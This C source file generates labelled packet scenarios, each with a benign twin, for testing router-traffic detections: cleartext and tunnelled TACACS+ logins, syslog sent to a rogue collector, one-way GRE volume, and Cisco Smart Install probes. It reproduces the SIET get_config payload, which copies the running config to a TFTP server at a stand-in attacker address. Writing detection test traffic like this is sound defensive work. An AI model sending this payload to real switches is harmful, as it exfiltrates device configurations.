/* seawall-gen: behavioural scenarios on routers: TACACS+ in clear (ST-AAA-003) and copied over
 * GRE (ST-AAA-004), syslog to an unknown collector (ST-EVA-002), a large one-way GRE transfer
 * (ST-TUN-004) and Cisco Smart Install from a non-director (ST-EXP-006) carrying a SIET
 * get-config (ST-EXP-007). Each twin changes only what the detection looks at. */
#include "bytes.h"
#include "plan.h"
#include "scenario.h"

#include <libnet.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#define TACACS_PORT 49   /* RFC 8907 section 4 */
#define SYSLOG_PORT 514  /* RFC 5426 section 3.3 */
#define SMI_PORT    4786 /* Cisco Smart Install */
#define BULK_PORT   5001

#define TAC_VERSION_MINOR1 0xc1 /* major 0xc, minor 1 (PAP, RFC 8907 section 5.4.2) */
#define TAC_TYPE_AUTHEN    0x01
#define TAC_UNENCRYPTED    0x01 /* RFC 8907 section 4.8: TAC_PLUS_UNENCRYPTED_FLAG */

#define SYSLOG_ROUTER      "10.10.0.9"
#define SYSLOG_COLLECTOR   "10.30.0.40" /* the plan's syslog set */
#define SYSLOG_ROGUE       "198.51.100.14"
#define SMI_SWITCH         "10.10.0.12" /* an access switch running the Smart Install client */
#define SMI_ATTACKER       "203.0.113.47"
#define SMI_DIRECTOR       "10.99.5.1" /* internal, not infra */
#define VOLUME_BIG_PACKETS 740         /* 740 x 1424 B outer = 1053760 B > 1 MiB */
#define VOLUME_INNER_BYTES 1372 /* + 8 UDP + 20 IP = 1400 inner, + 4 GRE + 20 IP = 1424 outer */
#define VOLUME_SMALL_BYTES 100

/* 12-byte header of RFC 8907 section 4.1, then the body: obfuscated with a stand-in pad (the
 * MD5 pad of section 4.5 needs the shared key) or, with TAC_UNENCRYPTED, in clear. */
static size_t tacacs_packet(gen_ctx *g, uint8_t *out, size_t cap, uint8_t seq, uint8_t flags,
                            uint32_t session, const gen_buf *body)
{
    uint8_t pad[256];
    gen_buf b = gen_buf_init(out, cap);
    if (body->overflow || body->len > sizeof(pad))
        return 0;
    gen_put_u8(&b, TAC_VERSION_MINOR1);
    gen_put_u8(&b, TAC_TYPE_AUTHEN);
    gen_put_u8(&b, seq);
    gen_put_u8(&b, flags);
    gen_put_be32(&b, session);
    gen_put_be32(&b, (uint32_t)body->len);
    memset(pad, 0, sizeof(pad));
    if (!(flags & TAC_UNENCRYPTED))
        gen_rng_fill(&g->rng, pad, body->len);
    for (size_t i = 0; i < body->len; i++)
        gen_put_u8(&b, (uint8_t)(body->data[i] ^ pad[i]));
    return b.overflow ? 0 : b.len;
}

/* START (section 5.1): action LOGIN, priv 1, PAP, service LOGIN; user, port, rem_addr, data. */
static gen_buf tacacs_start(uint8_t *out, size_t cap)
{
    static const char user[] = "netops", port[] = "vty0", rem[] = PLAN_NOC_HOST, pw[] = "Adm1n!23";
    gen_buf b = gen_buf_init(out, cap);
    gen_put_bytes(&b, (const uint8_t[]){0x01, 0x01, 0x02, 0x01}, 4);
    gen_put_u8(&b, sizeof(user) - 1);
    gen_put_u8(&b, sizeof(port) - 1);
    gen_put_u8(&b, sizeof(rem) - 1);
    gen_put_u8(&b, sizeof(pw) - 1);
    gen_put_str(&b, user);
    gen_put_str(&b, port);
    gen_put_str(&b, rem);
    gen_put_str(&b, pw);
    return b;
}

/* REPLY (section 5.2): status PASS (0x01), no message, no data. */
static gen_buf tacacs_reply(uint8_t *out, size_t cap)
{
    gen_buf b = gen_buf_init(out, cap);
    gen_put_bytes(&b, (const uint8_t[]){0x01, 0x00, 0x00, 0x00, 0x00, 0x00}, 6);
    return b;
}

/* Router 10.10.0.3 logs a user in against the AAA server 10.30.0.10: handshake, START, REPLY,
 * close, 8 frames, each inside tun when it is set. */
static int tacacs_login(gen_ctx *g, uint8_t flags, gen_tunnel *tun)
{
    uint8_t body[128], pkt[160];
    gen_flow f;
    if (gen_flow_init(g, &f, IPPROTO_TCP, PLAN_ROUTER_AAA, PLAN_TACACS_SERVER, TACACS_PORT) < 0)
        return -1;
    f.tun = tun;
    uint32_t session = gen_rng_u32(&g->rng);
    gen_buf start = tacacs_start(body, sizeof(body));
    size_t n = tacacs_packet(g, pkt, sizeof(pkt), 1, flags, session, &start);
    if (n == 0 || craft_tcp_open(g, &f) < 0 || craft_tcp_data(g, &f, GEN_TO_SERVER, pkt, n) < 0)
        return -1;
    gen_buf reply = tacacs_reply(body, sizeof(body));
    n = tacacs_packet(g, pkt, sizeof(pkt), 2, flags, session, &reply);
    if (n == 0 || craft_tcp_data(g, &f, GEN_TO_CLIENT, pkt, n) < 0)
        return -1;
    return craft_tcp_close(g, &f);
}

int scn_aaa003_tacacs_cleartext(gen_ctx *g)
{
    return tacacs_login(g, TAC_UNENCRYPTED, NULL);
}

int scn_aaa_tacacs_benign(gen_ctx *g)
{
    return tacacs_login(g, 0, NULL);
}

static int tacacs_login_tunnelled(gen_ctx *g, gen_tun_kind kind, const char *near, const char *far)
{
    gen_tunnel tun;
    if (gen_tunnel_init(g, &tun, kind, near, far) < 0)
        return -1;
    return tacacs_login(g, 0, &tun);
}

/* The router's login copied into GRE to 203.0.113.50, no approved peer (so ST-TUN-001 too). */
int scn_aaa004_tacacs_in_gre(gen_ctx *g)
{
    return tacacs_login_tunnelled(g, GEN_TUN_GRE, PLAN_ROUTER_TUN, PLAN_EXT_GRE_PEER);
}

/* The same login carried over the GRE tunnel to the approved peer 10.40.0.2: transport. */
int scn_aaa004_over_approved_gre(gen_ctx *g)
{
    return tacacs_login_tunnelled(g, GEN_TUN_GRE, PLAN_ROUTER_TUN, PLAN_TUNNEL_PEER_GRE);
}

/* The same login in the operator's ERSPAN session to its collector 10.30.0.50, as a sensor fed
 * by ERSPAN sees every mirrored exchange. */
int scn_aaa004_erspan_to_collector(gen_ctx *g)
{
    return tacacs_login_tunnelled(g, GEN_TUN_ERSPAN2, PLAN_ROUTER_TUN, PLAN_ERSPAN_COLLECTOR);
}

/* RFC 5424 section 6 message, timestamped with the frame's own time. 1 frame. */
static int syslog_message(gen_ctx *g, const char *collector)
{
    char msg[256];
    gen_flow f;
    if (gen_flow_init(g, &f, IPPROTO_UDP, SYSLOG_ROUTER, collector, SYSLOG_PORT) < 0)
        return -1;
    f.cport = SYSLOG_PORT; /* RFC 5426 section 3.3: senders also use 514 as source port */
    time_t t = (time_t)g->now.sec;
    struct tm tm;
    gmtime_r(&t, &tm);
    /* PRI 189 = facility local7 (23) * 8 + severity notice (5), section 6.2.1. */
    int n = snprintf(msg, sizeof(msg),
                     "<189>1 %04d-%02d-%02dT%02d:%02d:%02d.%06dZ edge-9 IOSXE 4242 "
                     "SYS-5-CONFIG_I - Configured from console by netops on vty0 (%s)",
                     tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                     (int)g->now.usec, PLAN_NOC_HOST);
    return craft_udp(g, &f, GEN_TO_SERVER, (const uint8_t *)msg, (size_t)n);
}

int scn_eva002_syslog_rogue(gen_ctx *g)
{
    return syslog_message(g, SYSLOG_ROGUE);
}

int scn_eva002_benign(gen_ctx *g)
{
    return syslog_message(g, SYSLOG_COLLECTOR);
}

/* GRE 10.10.0.1 <-> approved peer 10.40.0.2 carrying one inner UDP stream: `out` large packets
 * away from the router, and after every `every` of them one packet of `back_bytes` toward it.
 * Interleaved, because ST-TUN-004 judges the counters whenever the flow reports them (its first
 * answer included), not only at its end. */
static int gre_bulk(gen_ctx *g, int out, int every, size_t back_bytes)
{
    static uint8_t payload[VOLUME_INNER_BYTES];
    gen_tunnel tun;
    gen_flow f;
    if (gen_tunnel_init(g, &tun, GEN_TUN_GRE, PLAN_ROUTER_TUN, PLAN_TUNNEL_PEER_GRE) < 0 ||
        gen_flow_init(g, &f, IPPROTO_UDP, PLAN_INNER_A, PLAN_INNER_B, BULK_PORT) < 0)
        return -1;
    f.tun = &tun;
    gen_rng_fill(&g->rng, payload, sizeof(payload));
    for (int i = 1; i <= out; i++) {
        if (craft_udp(g, &f, GEN_TO_SERVER, payload, sizeof(payload)) < 0)
            return -1;
        if (i % every == 0 && craft_udp(g, &f, GEN_TO_CLIENT, payload, back_bytes) < 0)
            return -1;
    }
    return 0;
}

/* 1053760 bytes out, 4 x 152 = 608 back (after 185, 370, 555, 740): ratio 1733, above 20.
 * 744 frames. */
int scn_tun004_gre_one_way(gen_ctx *g)
{
    return gre_bulk(g, VOLUME_BIG_PACKETS, VOLUME_BIG_PACKETS / 4, VOLUME_SMALL_BYTES);
}

/* The same volume out, one 1424-byte packet back after every 10: 74 back, ratio 10 at every
 * point after the first answer, never above 20. 814 frames. */
int scn_tun004_benign(gen_ctx *g)
{
    return gre_bulk(g, VOLUME_BIG_PACKETS, 10, VOLUME_INNER_BYTES);
}

/* SIET (Sab0tag3d/SIETpy3 siet.py) test probe: version 1, 1, type 4, length 8, then 1, 0; the
 * Smart Install client answers with 24 bytes starting 4, 0, 3, 8. */
static const uint8_t smi_probe[] = {0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 4,
                                    0, 0, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0};
static const uint8_t smi_probe_answer[] = {0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 3,
                                           0, 0, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0};

/* SIET get_config: the 40-byte header (type 8, length 0x408 = 24 header bytes + 3 x 336), then
 * three NUL-padded 336-byte fields: two IOS "copy" commands and an empty one. */
static size_t smi_get_config(uint8_t *out, size_t cap, const char *attacker, const char *victim)
{
    static const uint8_t header[40] = {0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00,
                                       0x00, 0x08, 0x00, 0x00, 0x04, 0x08, 0x00, 0x01, 0x00, 0x14,
                                       0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0xfc, 0x99,
                                       0x47, 0x37, 0x86, 0x60, 0x00, 0x00, 0x00, 0x03, 0x03, 0xf4};
    char field[3][336];
    memset(field, 0, sizeof(field));
    snprintf(field[0], sizeof(field[0]), "copy system:running-config flash:/config.text");
    snprintf(field[1], sizeof(field[1]), "copy flash:/config.text tftp://%s/%s.conf", attacker,
             victim);
    gen_buf b = gen_buf_init(out, cap);
    gen_put_bytes(&b, header, sizeof(header));
    gen_put_bytes(&b, field, sizeof(field));
    return b.overflow ? 0 : b.len;
}

/* One Smart Install message from cli to srv:4786 and, when given, the answer. */
static int smi_exchange(gen_ctx *g, const char *cli, const char *srv, const uint8_t *msg,
                        size_t len, const uint8_t *answer, size_t answer_len)
{
    gen_flow f;
    if (len == 0 || gen_flow_init(g, &f, IPPROTO_TCP, cli, srv, SMI_PORT) < 0 ||
        craft_tcp_open(g, &f) < 0 || craft_tcp_data(g, &f, GEN_TO_SERVER, msg, len) < 0)
        return -1;
    if (answer && craft_tcp_data(g, &f, GEN_TO_CLIENT, answer, answer_len) < 0)
        return -1;
    return craft_tcp_close(g, &f);
}

/* Outside host probes the switch: 3 + probe + answer + 3 = 8 frames. */
int scn_exp006_smi_probe(gen_ctx *g)
{
    return smi_exchange(g, SMI_ATTACKER, SMI_SWITCH, smi_probe, sizeof(smi_probe), smi_probe_answer,
                        sizeof(smi_probe_answer));
}

/* The switch, as a Smart Install client, talks to its director (not infrastructure). */
int scn_exp006_benign(gen_ctx *g)
{
    return smi_exchange(g, SMI_SWITCH, SMI_DIRECTOR, smi_probe, sizeof(smi_probe), smi_probe_answer,
                        sizeof(smi_probe_answer));
}

/* Outside host sends get_config to the switch: 3 + the 1048-byte message + 3 = 7 frames. */
int scn_exp007_smi_get_config(gen_ctx *g)
{
    uint8_t msg[1100];
    size_t n = smi_get_config(msg, sizeof(msg), SMI_ATTACKER, SMI_SWITCH);
    return smi_exchange(g, SMI_ATTACKER, SMI_SWITCH, msg, n, NULL, 0);
}

/* The same get_config bytes sent by the switch to its director: not toward infrastructure. */
int scn_exp007_benign(gen_ctx *g)
{
    uint8_t msg[1100];
    size_t n = smi_get_config(msg, sizeof(msg), SMI_DIRECTOR, SMI_SWITCH);
    return smi_exchange(g, SMI_SWITCH, SMI_DIRECTOR, msg, n, NULL, 0);
}
